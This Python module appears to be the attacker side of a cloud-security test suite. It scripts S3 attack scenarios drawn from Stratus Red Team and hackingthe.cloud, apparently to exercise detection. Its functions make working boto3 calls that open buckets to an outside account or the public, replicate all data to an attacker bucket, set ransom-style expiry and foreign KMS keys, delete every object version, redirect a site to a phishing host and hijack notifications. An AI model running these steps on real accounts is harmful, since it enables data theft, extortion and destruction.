"""What the attackers of the scenarios call, step by step; `scenarios` says what must follow.

Most steps are those of Stratus Red Team (https://stratus-red-team.cloud), hackingthe.cloud and
published incidents.
"""

from __future__ import annotations

import json
from typing import TYPE_CHECKING, Any

from bucketward.public_access import FLAGS

from .scenario import OUTSIDE

if TYPE_CHECKING:
    from .scenario import Play

FOREIGN_KEY = f"arn:aws:kms:eu-central-1:{OUTSIDE}:key/mrk-9e8d"
LOOT = "quarterly-sync-eu-west-1"
"""A bucket of the attackers' whose name tells nothing."""

PUBLIC_GROUP = "http://acs.amazonaws.com/groups/global/AuthenticatedUsers"
UNUSED_REGION = "ap-south-2"


def backdoor(play: Play) -> None:
    arn = f"arn:aws:s3:::{play.bucket}"
    statement = {
        "Effect": "Allow",
        "Principal": {"AWS": f"arn:aws:iam::{OUTSIDE}:root"},
        "Action": ["s3:GetObject", "s3:GetBucketLocation", "s3:ListBucket"],
        "Resource": [arn, f"{arn}/*"],
    }
    policy = {"Version": "2012-10-17", "Statement": [statement]}
    play.s3.put_bucket_policy(Bucket=play.bucket, Policy=json.dumps(policy))
    play.pause(5)
    play.outsider.list_objects_v2(Bucket=play.bucket)


def expire_the_trail(play: Play) -> None:
    rule = {
        "ID": "nuke-cloudtrail-logs-after-1-day",
        "Status": "Enabled",
        "Filter": {"Prefix": "*"},
        "Expiration": {"Days": 1},
    }
    _lifecycle(play, rule)


def publish(play: Play) -> None:
    play.control().delete_public_access_block(AccountId=play.account.place.account)
    play.pause()
    play.s3.delete_public_access_block(Bucket=play.bucket)
    play.pause()
    statement = {
        "Effect": "Allow",
        "Principal": "*",
        "Action": "s3:GetObject",
        "Resource": f"arn:aws:s3:::{play.bucket}/*",
    }
    policy = {"Version": "2012-10-17", "Statement": [statement]}
    play.s3.put_bucket_policy(Bucket=play.bucket, Policy=json.dumps(policy))


def publish_by_acl(play: Play) -> None:
    s3, bucket = play.s3, play.bucket
    rules = [{"ObjectOwnership": "ObjectWriter"}]
    s3.put_bucket_ownership_controls(Bucket=bucket, OwnershipControls={"Rules": rules})
    play.pause()
    opened = {"BlockPublicAcls": False, "IgnorePublicAcls": False}
    s3.put_public_access_block(
        Bucket=bucket, PublicAccessBlockConfiguration=dict.fromkeys(FLAGS, True) | opened
    )
    play.pause()
    acl = s3.get_bucket_acl(Bucket=bucket)
    grantee = {"Type": "Group", "URI": PUBLIC_GROUP}
    grants = [*acl["Grants"], {"Grantee": grantee, "Permission": "WRITE_ACP"}]
    s3.put_bucket_acl(Bucket=bucket, AccessControlPolicy={"Owner": acl["Owner"], "Grants": grants})


def prevent_recovery(play: Play) -> None:
    # Replication first: S3 does not suspend versioning beneath it.
    s3, bucket = play.s3, play.bucket
    s3.delete_bucket_replication(Bucket=bucket)
    play.pause()
    s3.put_bucket_versioning(Bucket=bucket, VersioningConfiguration={"Status": "Suspended"})
    play.pause()
    s3.put_bucket_logging(Bucket=bucket, BucketLoggingStatus={})
    play.pause()
    s3.delete_bucket_encryption(Bucket=bucket)


def replicate_out(play: Play) -> None:
    place = play.account.place
    play.s3.put_bucket_versioning(Bucket=play.bucket, VersioningConfiguration={"Status": "Enabled"})
    play.pause()
    rule = {
        "ID": "sync",
        "Priority": 1,
        "Status": "Enabled",
        "Filter": {},
        "DeleteMarkerReplication": {"Status": "Disabled"},
        "Destination": {"Bucket": f"arn:aws:s3:::{LOOT}"},
    }
    role = play.account.role_arn("s3-sync")
    play.s3.put_bucket_replication(
        Bucket=play.bucket, ReplicationConfiguration={"Role": role, "Rules": [rule]}
    )
    play.pause()
    play.control().create_job(
        AccountId=place.account,
        ConfirmationRequired=False,
        Operation={"S3ReplicateObject": {}},
        Report={"Enabled": False},
        ManifestGenerator={
            "S3JobManifestGenerator": {
                "SourceBucket": f"arn:aws:s3:::{play.bucket}",
                "EnableManifestOutput": False,
            }
        },
        Priority=10,
        RoleArn=role,
        ClientRequestToken="sync",
    )


def ransom_by_key(play: Play) -> None:
    rule = {
        "ApplyServerSideEncryptionByDefault": {"SSEAlgorithm": "AES256"},
        "BlockedEncryptionTypes": {"EncryptionType": ["NONE"]},
    }
    play.s3.put_bucket_encryption(
        Bucket=play.bucket, ServerSideEncryptionConfiguration={"Rules": [rule]}
    )
    play.pause()
    _lifecycle(
        play,
        {"ID": "ransom", "Status": "Enabled", "Filter": {"Prefix": ""}, "Expiration": {"Days": 7}},
    )
    play.pause()
    play.s3.put_object(Bucket=play.bucket, Key="FILES-ENCRYPTED.txt", Body=b"pay")


def foreign_key(play: Play) -> None:
    default = {"SSEAlgorithm": "aws:kms", "KMSMasterKeyID": FOREIGN_KEY}
    rule = {"ApplyServerSideEncryptionByDefault": default, "BucketKeyEnabled": True}
    play.s3.put_bucket_encryption(
        Bucket=play.bucket, ServerSideEncryptionConfiguration={"Rules": [rule]}
    )


def delete_objects(play: Play) -> None:
    s3, bucket = play.s3, play.bucket
    listed = s3.list_object_versions(Bucket=bucket)
    found = [*listed.get("Versions", ()), *listed.get("DeleteMarkers", ())]
    objects = [{"Key": each["Key"], "VersionId": each["VersionId"]} for each in found]
    if objects:
        s3.delete_objects(Bucket=bucket, Delete={"Objects": objects})


def delete_all(play: Play) -> None:
    delete_objects(play)
    play.pause()
    play.s3.put_object(Bucket=play.bucket, Key="FILES-DELETED.txt", Body=b"pay")


def delete_bucket(play: Play) -> None:
    delete_objects(play)
    play.pause()
    play.s3.delete_bucket(Bucket=play.bucket)


def take_over(play: Play) -> None:
    delete_bucket(play)
    play.pause(3)
    where = {"LocationConstraint": play.account.place.region}
    play.outsider.create_bucket(Bucket=play.bucket, CreateBucketConfiguration=where)


def deface(play: Play) -> None:
    redirect = {"RedirectAllRequestsTo": {"HostName": "login-acme.example", "Protocol": "https"}}
    play.s3.put_bucket_website(Bucket=play.bucket, WebsiteConfiguration=redirect)
    play.pause()
    cors = {"AllowedOrigins": ["*"], "AllowedMethods": ["GET", "PUT"], "AllowedHeaders": ["*"]}
    play.s3.put_bucket_cors(Bucket=play.bucket, CORSConfiguration={"CORSRules": [cors]})


def hijack_notifications(play: Play) -> None:
    function = f"arn:aws:lambda:{play.account.place.region}:{OUTSIDE}:function:collect"
    configuration = {"LambdaFunctionArn": function, "Events": ["s3:ObjectCreated:*"]}
    play.s3.put_bucket_notification_configuration(
        Bucket=play.bucket,
        NotificationConfiguration={"LambdaFunctionConfigurations": [configuration]},
    )


def silence_notifications(play: Play) -> None:
    play.s3.put_bucket_notification_configuration(Bucket=play.bucket, NotificationConfiguration={})


def launder_by_tag(play: Play) -> None:
    tags = [{"Key": "S3Guard:Exempt", "Value": "true"}]
    play.s3.put_bucket_tagging(Bucket=play.bucket, Tagging={"TagSet": tags})
    play.pause()
    backdoor(play)


def open_from_elsewhere(play: Play) -> None:
    play.control(UNUSED_REGION).put_public_access_block(
        AccountId=play.account.place.account,
        PublicAccessBlockConfiguration=dict.fromkeys(FLAGS, False),
    )


def redirect_logs(play: Play) -> None:
    target = {"TargetBucket": "acme-build-artifacts", "TargetPrefix": "tmp/"}
    play.s3.put_bucket_logging(Bucket=play.bucket, BucketLoggingStatus={"LoggingEnabled": target})


def probe(play: Play) -> None:
    play.refused("PutBucketPolicy", "put_bucket_policy", Policy="{}")
    play.pause()
    play.refused("PutBucketAcl", "put_bucket_acl", ACL="public-read")
    play.pause()
    play.refused("DeleteBucketPolicy", "delete_bucket_policy")


def grant_to_own_role(play: Play) -> None:
    policy = json.loads(play.s3.get_bucket_policy(Bucket=play.bucket)["Policy"])
    grant: dict[str, Any] = {
        "Sid": "Reports",
        "Effect": "Allow",
        "Principal": {"AWS": play.account.role_arn("Reporting")},
        "Action": "s3:GetObject",
        "Resource": f"arn:aws:s3:::{play.bucket}/reports/*",
    }
    policy["Statement"].append(grant)
    play.s3.put_bucket_policy(Bucket=play.bucket, Policy=json.dumps(policy))


def block_again(play: Play) -> None:
    play.s3.put_public_access_block(
        Bucket=play.bucket, PublicAccessBlockConfiguration=dict.fromkeys(FLAGS, True)
    )


def _lifecycle(play: Play, rule: dict[str, Any]) -> None:
    play.s3.put_bucket_lifecycle_configuration(
        Bucket=play.bucket, LifecycleConfiguration={"Rules": [rule]}
    )
